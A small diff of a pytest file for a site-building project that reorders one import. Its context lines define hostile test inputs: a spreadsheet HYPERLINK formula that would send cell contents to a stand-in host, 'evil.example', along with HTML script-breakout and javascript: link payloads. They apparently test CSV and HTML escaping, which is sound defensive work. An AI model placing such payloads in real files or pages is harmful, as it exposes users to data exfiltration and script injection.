@@ -17,9 +17,9 @@ from pathlib import Path
 import pytest
 from markupsafe import escape
 
+from pace_site.build.pipeline import BuildOptions, build
 from pace_site.model.chart import Chart
 from pace_site.model.escaping import inert_csv_cell, plotly_plain, script_json
-from pace_site.build.pipeline import BuildOptions, build
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Testshire") <!--<script> </script><b>&amp;'
 HOSTILE_MILESTONE = '@SUM(1+1)<!--<script><a href="javascript:alert(1)">Permanence recommendation</a>'
